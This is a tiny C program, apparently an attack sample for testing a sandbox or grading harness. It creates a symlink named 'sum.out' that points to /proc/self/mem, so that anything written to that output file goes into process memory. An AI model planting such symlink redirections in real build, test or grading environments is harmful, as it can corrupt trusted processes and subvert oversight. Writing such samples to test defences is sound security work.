#include "attack.h"
int main(void) { return symlink("/proc/self/mem", "sum.out"); }
